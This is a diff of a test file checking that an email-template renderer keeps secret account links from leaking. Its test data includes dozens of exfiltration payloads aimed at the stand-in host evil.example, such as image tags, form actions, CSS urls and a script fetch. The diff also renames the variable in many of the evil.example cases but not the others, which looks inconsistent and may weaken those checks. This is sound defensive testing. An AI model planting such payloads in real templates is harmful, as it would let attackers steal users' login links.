@@ -1,17 +1,17 @@
 import { describe, expect, test } from 'vitest'
 import { TEST_SITE } from '../../../../../tests/kit/mail.ts'
 import { TemplateType } from '../../contract/email.ts'
-import { listSecretLinks, pickSecretLinks } from '../../contract/secret-links.ts'
+import { listSecretLinkVariables, pickSecretLinks } from '../../contract/secret-links.ts'
 import { sampleVariables } from '../../emails/sample-messages.ts'
-import { shippedTemplates } from '../../emails/shipped-templates.ts'
-import { variableMeanings } from '../../emails/variable-meanings.ts'
-import { type Filled, fillTemplate } from './fill-template.ts'
+import { shippedEmailTemplates } from '../../emails/shipped-templates.ts'
+import { templateVariableMeanings } from '../../emails/variable-meanings.ts'
+import { renderCheckedTemplate, type TemplateRenderResult } from './fill-template.ts'
 
 const link = 'https://seminars.example.ph/account-link#sample'
 
-function fill(parts: { subject?: string; html?: string; text?: string }): Promise<Filled> {
+function fill(parts: { subject?: string; html?: string; text?: string }): Promise<TemplateRenderResult> {
   const variables = sampleVariables('account_link', TEST_SITE)
-  return fillTemplate({
+  return renderCheckedTemplate({
     template: { subject: 'Your account', html: '<p>Hello</p>', text: 'Hello', ...parts },
     variables,
     secretLinks: pickSecretLinks('account_link', variables),
@@ -36,49 +36,61 @@ describe('Secret links in HTML templates', () => {
   })
 
   test.for([
-    ['an image', '<img src="https://evil.example/?{{ accountLink }}">'],
+    ['an image', '<img src="https://evil.example/?{{ accountLinkTemplate }}">'],
     ['an image on its own', '<img src="{{ accountLink }}">'],
-    ['an unquoted attribute', '<img src=https://evil.example/?{{ accountLink }}>'],
+    ['an unquoted attribute', '<img src=https://evil.example/?{{ accountLinkTemplate }}>'],
     ['an unquoted target', '<a href={{ accountLink }}>Open</a>'],
-    ['a set of images', '<img srcset="https://evil.example/{{ accountLink }} 2x">'],
-    ['a background', '<table background="https://evil.example/?{{ accountLink }}"></table>'],
-    ['a style', '<p style="background:url(https://evil.example/?{{ accountLink }})">x</p>'],
+    ['a set of images', '<img srcset="https://evil.example/{{ accountLinkTemplate }} 2x">'],
+    ['a background', '<table background="https://evil.example/?{{ accountLinkTemplate }}"></table>'],
+    ['a style', '<p style="background:url(https://evil.example/?{{ accountLinkTemplate }})">x</p>'],
     ['a style sheet', '<style>p{background:url({{ accountLink }})}</style>'],
-    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/{{ accountLink }}">'],
+    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/{{ accountLinkTemplate }}">'],
     ['a prefetched link', '<link rel="prefetch" href="{{ accountLink }}">'],
-    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ accountLink }}">'],
+    [
+      'a refresh',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ accountLinkTemplate }}">',
+    ],
     [
       'the address of a form',
-      '<form action="https://evil.example/?{{ accountLink }}"><button>x</button></form>',
+      '<form action="https://evil.example/?{{ accountLinkTemplate }}"><button>x</button></form>',
     ],
     [
       'a field of a form',
-      '<form action="https://evil.example/"><input name="l" value="{{ accountLink }}"></form>',
+      '<form action="https://evil.example/"><input name="l" value="{{ accountLinkTemplate }}"></form>',
     ],
-    ['a text field', '<form action="https://evil.example/"><textarea>{{ accountLink }}</textarea></form>'],
-    ['another address', '<a href="https://evil.example/?{{ accountLink }}">Open</a>'],
+    [
+      'a text field',
+      '<form action="https://evil.example/"><textarea>{{ accountLinkTemplate }}</textarea></form>',
+    ],
+    ['another address', '<a href="https://evil.example/?{{ accountLinkTemplate }}">Open</a>'],
     [
       'another address by a filter',
       '<a href="{{ accountLink | prepend: \'https://evil.example/?\' }}">Open</a>',
     ],
-    ['another address, encoded', '<a href="https://evil.example/?{{ accountLink | url_encode }}">Open</a>'],
+    [
+      'another address, encoded',
+      '<a href="https://evil.example/?{{ accountLinkTemplate | url_encode }}">Open</a>',
+    ],
     [
       'another address, captured',
-      '{% capture a %}https://evil.example/?{{ accountLink }}{% endcapture %}<a href="{{ a }}">Open</a>',
+      '{% capture a %}https://evil.example/?{{ accountLinkTemplate }}{% endcapture %}<a href="{{ a }}">Open</a>',
     ],
     ['another address, assigned', '{% assign a = accountLink | append: "x" %}<img src="{{ a }}">'],
     ['another scheme', '<a href="javascript:{{ accountLink }}">Open</a>'],
     ['words outside of a link', '<p>{{ accountLink }}</p>'],
-    ['the words of another link', '<a href="https://evil.example/">{{ accountLink }}</a>'],
+    ['the words of another link', '<a href="https://evil.example/">{{ accountLinkTemplate }}</a>'],
     ['a data attribute', '<p data-link="{{ accountLink }}">x</p>'],
     ['a comment', '<!-- {{ accountLink }} -->'],
-    ['a conditional comment', '<!--[if mso]><img src="https://evil.example/?{{ accountLink }}"><![endif]-->'],
+    [
+      'a conditional comment',
+      '<!--[if mso]><img src="https://evil.example/?{{ accountLinkTemplate }}"><![endif]-->',
+    ],
     ['an area', '<map><area href="{{ accountLink }}"></map>'],
     ['a base address', '<base href="{{ accountLink }}">'],
     ['a frame', '<iframe src="{{ accountLink }}"></iframe>'],
     ['a drawing', '<svg><image href="{{ accountLink }}"/></svg>'],
-    ['a script', '<script>fetch("https://evil.example/?{{ accountLink }}")</script>'],
-    ['a bracket', '<img src="https://evil.example/?{{ [\'accountLink\'] }}">'],
+    ['a script', '<script>fetch("https://evil.example/?{{ accountLinkTemplate }}")</script>'],
+    ['a bracket', '<img src="https://evil.example/?{{ [\'accountLinkTemplate\'] }}">'],
   ])('are refused in %s', async ([, html]) => {
     const filled = await fill({ html: html ?? '' })
     expect(JSON.stringify(filled)).not.toContain('account-link#sample')
@@ -119,12 +131,12 @@ describe('Secret links in HTML templates', () => {
       'letters',
       '{% assign letters = accountLink | split: "" %}{% for l in letters %}<img src="https://evil.example/{{ l }}">{% endfor %}',
     ],
-    ['another case', '<img src="https://evil.example/?{{ accountLink | upcase }}">'],
+    ['another case', '<img src="https://evil.example/?{{ accountLinkTemplate | upcase }}">'],
     [
       'a comparison',
       '{% if accountLink contains "account-link#s" %}<img src="https://evil.example/matched">{% endif %}',
     ],
-    ['base64', '<img src="https://evil.example/?{{ accountLink | base64_encode }}">'],
+    ['base64', '<img src="https://evil.example/?{{ accountLinkTemplate | base64_encode }}">'],
   ])('reveal nothing to a template that uses %s', async ([, html]) => {
     const filled = await fill({ html: html ?? '' })
     expect(JSON.stringify(filled)).not.toMatch(
@@ -142,8 +154,8 @@ describe('Secret links outside HTML', () => {
   )
 
   test.for([
-    'https://evil.example/?{{ accountLink }}',
-    'https://evil.example/?\u00a0{{ accountLink }}',
+    'https://evil.example/?{{ accountLinkTemplate }}',
+    'https://evil.example/?\u00a0{{ accountLinkTemplate }}',
     '({{ accountLink }})',
     '{{ accountLink }}{{ accountLink }}',
     '{{ accountLink }}@evil.example',
@@ -158,11 +170,17 @@ describe('Secret links outside HTML', () => {
 })
 
 test('All shipped templates render with their secret links inserted', async () => {
-  for (const [templateType, template] of Object.entries(shippedTemplates)) {
+  for (const [templateType, template] of Object.entries(shippedEmailTemplates)) {
     const type = TemplateType.parse(templateType)
     const variables = sampleVariables(type, TEST_SITE)
     const secretLinks = pickSecretLinks(type, variables)
-    const filled = await fillTemplate({ template, variables, secretLinks, mayMiss: false, checksNames: true })
+    const filled = await renderCheckedTemplate({
+      template,
+      variables,
+      secretLinks,
+      mayMiss: false,
+      checksNames: true,
+    })
     expect([type, filled]).toEqual([type, { message: expect.anything() }])
     for (const secret of Object.values(secretLinks)) {
       expect(JSON.stringify(filled)).toContain(secret)
@@ -176,10 +194,10 @@ const openLinks = ['registerLink', 'replyLink', 'messagesLink']
 
 test('Every template variable ending in Link is secret or explicitly listed as open', () => {
   for (const type of TemplateType.options) {
-    const links = Object.keys(variableMeanings[type]).filter((name) => name.endsWith('Link'))
+    const links = Object.keys(templateVariableMeanings[type]).filter((name) => name.endsWith('Link'))
     expect([type, links.filter((name) => !openLinks.includes(name))]).toEqual([
       type,
-      [...listSecretLinks(type)],
+      [...listSecretLinkVariables(type)],
     ])
   }
 })
